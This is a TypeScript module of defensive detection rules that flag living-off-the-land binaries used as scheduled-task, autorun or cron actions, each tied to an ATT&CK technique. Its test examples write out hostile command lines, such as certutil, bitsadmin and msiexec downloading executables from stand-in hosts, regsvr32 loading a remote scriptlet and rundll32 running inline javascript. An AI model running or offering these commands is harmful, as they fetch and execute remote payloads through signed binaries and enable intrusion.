/**
 * Script hosts and living-off-the-land binaries as the scheduled action. Stock Microsoft tasks almost never
 * launch these directly (they use COM handlers or dedicated binaries), so seeing one is worth a look.
 */
import { imageOf } from './input';
import { launchedPaths, stem, userWritable } from './signals';
import type { Heuristic, HeuristicInput } from './types';

const WIN: Heuristic['appliesTo'] = ['windows_task', 'windows_autorun'];
const hit = (id: string, detail: string) => ({ id, detail });

const wrapped = new Map<string, RegExp>();

/** Does any program this job runs have this (extension-less, lower-case) name? */
function runs(i: HeuristicInput, ...names: string[]): string | null {
  const exe = i.executable.startsWith('rundll32.exe|') ? 'rundll32' : stem(imageOf(i));
  if (names.includes(exe)) return exe;
  // `cmd /c mshta ...` or `cmd /c start powershell ...`: the real action sits behind a wrapper.
  const alternatives = names.join('|');
  let re = wrapped.get(alternatives);
  if (!re) wrapped.set(alternatives, (re = new RegExp(String.raw`(?:^|[\s"&|/\\(])(${alternatives})(?:\.exe)?(?=[\s"]|$)`, 'i')));
  const m = re.exec(i.normCommand);
  if (m && /^(?:cmd|conhost|explorer|start|c:\\windows\\system32\\cmd\.exe)/i.test(i.executable)) return m[1].toLowerCase();
  return null;
}

export const lolbinHeuristics: Heuristic[] = [
  {
    id: 'TL-LOLBIN-POWERSHELL',
    title: 'PowerShell is the scheduled action',
    explanation: 'Script-host actions hide their real behaviour in arguments; vendors rarely schedule PowerShell directly.',
    attack: 'T1059.001',
    family: 'lolbin',
    severity: 2,
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'powershell.exe -File c:\\scripts\\x.ps1' }, { command: 'cmd /c pwsh -c Get-Date' }],
      negative: [{ command: 'C:\\Windows\\System32\\defrag.exe' }, { command: 'notepad.exe c:\\powershell.txt' }],
    },
    test(i) {
      const r = runs(i, 'powershell', 'pwsh', 'powershell_ise');
      return r ? hit(this.id, `runs ${r}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-MSHTA',
    title: 'mshta.exe runs an HTA or inline script',
    explanation: 'mshta executes VBScript/JScript from files or URLs with a Microsoft-signed binary.',
    attack: 'T1218.005',
    family: 'lolbin',
    severity: 4,
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'mshta.exe vbscript:Execute("x")' }, { command: 'C:\\Windows\\System32\\mshta.exe http://a.b/c.hta' }],
      negative: [{ command: 'C:\\Windows\\System32\\taskhostw.exe' }],
    },
    test(i) {
      return runs(i, 'mshta') ? hit(this.id, `runs mshta.exe: ${i.command.slice(0, 120)}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-RUNDLL32',
    title: 'rundll32 loads a DLL from outside the system folders or runs script',
    explanation: 'rundll32 with a DLL in a user folder, or with javascript:, proxies attacker code through a signed binary.',
    attack: 'T1218.011',
    family: 'lolbin',
    severity: 4,
    appliesTo: WIN,
    examples: {
      positive: [
        { command: 'rundll32.exe C:\\Users\\a\\AppData\\Local\\x.dll,Start' },
        { command: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)' },
      ],
      negative: [
        { command: 'rundll32.exe shell32.dll,Control_RunDLL' },
        { command: '%windir%\\system32\\rundll32.exe %windir%\\system32\\AppxDeploymentClient.dll,AppxPreStageCleanupRunTask' },
      ],
    },
    test(i) {
      if (!i.executable.startsWith('rundll32.exe|')) return null;
      const dll = i.executable.slice('rundll32.exe|'.length);
      if (/javascript:|vbscript:|mshtml/i.test(i.command)) return hit(this.id, `rundll32 runs inline script (${dll})`);
      const system = /^(?:c:\\windows\\|c:\\program files(?: \(x86\))?\\|[^\\:]+$)/i;
      if (system.test(dll)) return null;
      const where = userWritable(i)?.where;
      return hit(this.id, `runs rundll32.exe with ${dll}${where ? ` in ${where}` : ''}`);
    },
  },
  {
    id: 'TL-LOLBIN-REGSVR32',
    title: 'regsvr32 registers a remote scriptlet or a DLL outside system folders',
    explanation: 'regsvr32 /i:<url> scrobj.dll ("Squiblydoo") and user-folder DLLs are classic proxy execution.',
    attack: 'T1218.010',
    family: 'lolbin',
    severity: 4,
    reference: 'Sigma: Potential Regsvr32 Commandline Flag Anomaly (b236190c-1c61-41e9-84b3-3fe03f6d76b0)',
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll' }, { command: 'regsvr32.exe /s C:\\Users\\Public\\a.dll' }],
      negative: [{ command: 'regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll' }],
    },
    test(i) {
      if (!runs(i, 'regsvr32')) return null;
      if (/\/i:|scrobj|https?:\/\//i.test(i.command)) return hit(this.id, `regsvr32 with scriptlet/URL: ${i.command.slice(0, 120)}`);
      const dll = launchedPaths(i).find((p) => /\.(?:dll|ocx)$/i.test(p) && !/^c:\\(?:windows|program files)/i.test(p));
      return dll ? hit(this.id, `regsvr32 registers ${dll}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-CERTUTIL',
    title: 'certutil used to download or decode',
    explanation: 'certutil -urlcache/-decode turns a signed admin tool into a downloader and base64 decoder.',
    attack: 'T1105',
    family: 'lolbin',
    severity: 5,
    reference: 'Sigma: Suspicious Download Via Certutil.EXE (19b08b1c-861d-4e75-a1ef-ea0c1baf202b)',
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'certutil.exe -urlcache -split -f http://x/a.exe c:\\a.exe' }, { command: 'cmd /c certutil -decode a.b64 a.exe' }],
      negative: [{ command: 'certutil.exe -pulse' }],
    },
    test(i) {
      if (!runs(i, 'certutil')) return null;
      const m = /[-/](?:urlcache|verifyctl|decodehex|decode|encode)\b|https?:\/\//i.exec(i.command);
      return m ? hit(this.id, `certutil ${m[0]}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-BITSADMIN',
    title: 'bitsadmin transfers a file or sets a notify command',
    explanation: 'BITS jobs download payloads and can re-run a command on completion (persistence by itself).',
    attack: 'T1197',
    family: 'lolbin',
    severity: 4,
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'bitsadmin /transfer j /download http://x/a.exe c:\\a.exe' }, { command: 'bitsadmin.exe /SetNotifyCmdLine j c:\\a.exe NUL' }],
      negative: [{ command: 'bitsadmin /list' }],
    },
    test(i) {
      if (!runs(i, 'bitsadmin')) return null;
      const m = /\/(?:transfer|addfile|setnotifycmdline|download|create)\b/i.exec(i.command);
      return m ? hit(this.id, `bitsadmin ${m[0]}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-WSCRIPT',
    title: 'wscript/cscript runs a script',
    explanation: 'VBScript/JScript droppers are scheduled through the Windows Script Host.',
    attack: 'T1059.005',
    family: 'lolbin',
    severity: 3,
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'wscript.exe //B C:\\Users\\a\\AppData\\x.vbs' }, { command: 'cscript //nologo c:\\x\\a.js' }],
      negative: [{ command: 'C:\\Windows\\System32\\sdclt.exe /CONFIGNOTIFICATION' }],
    },
    test(i) {
      const r = runs(i, 'wscript', 'cscript');
      return r ? hit(this.id, `runs ${r}: ${i.command.slice(0, 120)}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-MSIEXEC-URL',
    title: 'msiexec installs from a URL or loads a DLL',
    explanation: 'msiexec /i http://... or /y /z <dll> fetches and runs code with a signed installer.',
    attack: 'T1218.007',
    family: 'lolbin',
    severity: 4,
    appliesTo: WIN,
    examples: {
      positive: [{ command: 'msiexec /q /i http://1.2.3.4/a.msi' }, { command: 'msiexec.exe /z C:\\Users\\a\\AppData\\x.dll' }],
      negative: [{ command: 'msiexec.exe /fa {11111111-2222-3333-4444-555555555555} /qn' }],
    },
    test(i) {
      if (!runs(i, 'msiexec')) return null;
      const m = /https?:\/\/\S+|\s\/[yz]\s+\S+/i.exec(i.command);
      return m ? hit(this.id, `msiexec ${m[0].trim()}`) : null;
    },
  },
  {
    id: 'TL-LOLBIN-PROXY',
    title: 'Signed proxy-execution binary as the action',
    explanation: 'installutil, cmstp, regasm/regsvcs, msbuild, odbcconf, forfiles, pcalua, wmic process call create and similar run arbitrary code.',
    attack: 'T1218',
    family: 'lolbin',
    severity: 4,
    appliesTo: WIN,
    examples: {
      positive: [
        { command: 'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U c:\\x\\a.dll' },
        { command: 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe' },
        { command: 'wmic process call create "c:\\x\\a.exe"' },
        { command: 'cmstp.exe /ni /s c:\\x\\a.inf' },
      ],
      negative: [{ command: 'wmic.exe path win32_operatingsystem get caption' }, { command: 'C:\\Windows\\System32\\ngentask.exe' }],
    },
    test(i) {
      const r = runs(i, 'installutil', 'cmstp', 'regasm', 'regsvcs', 'msbuild', 'odbcconf', 'forfiles', 'pcalua', 'ieexec', 'msxsl', 'mavinject', 'presentationhost', 'infdefaultinstall', 'syncappvpublishingserver', 'hh', 'scriptrunner', 'wmic');
      if (!r) return null;
      if (r === 'wmic' && !/process\s+call\s+create/i.test(i.command)) return null;
      return hit(this.id, `runs ${r}: ${i.command.slice(0, 120)}`);
    },
  },
  {
    id: 'TL-LOLBIN-INLINE-INTERPRETER',
    title: 'Interpreter runs inline code (python -c, perl -e, ruby -e, php -r, node -e)',
    explanation: 'Inline one-liners leave no script file to inspect and are how most Unix backdoors are scheduled.',
    attack: 'T1059.006',
    family: 'lolbin',
    severity: 3,
    appliesTo: ['cron', 'systemd_timer', 'launchd', 'at'],
    examples: {
      positive: [{ family: 'cron', command: 'python3 -c "import os;os.system(\'id\')"' }, { family: 'cron', command: '/usr/bin/perl -e \'print 1\'' }],
      negative: [{ family: 'cron', command: '/usr/bin/python3 /opt/app/job.py' }, { family: 'cron', command: 'php -f /var/www/cron.php' }],
    },
    test(i) {
      const m = /(?:^|[\s/;|&])(python[0-9.]*|perl|ruby|php[0-9.]*|node)\s+(?:-\S+\s+)*-(?:c|e|r)\s/.exec(i.normCommand);
      return m ? hit(this.id, `${m[1]} runs inline code`) : null;
    },
  },
];
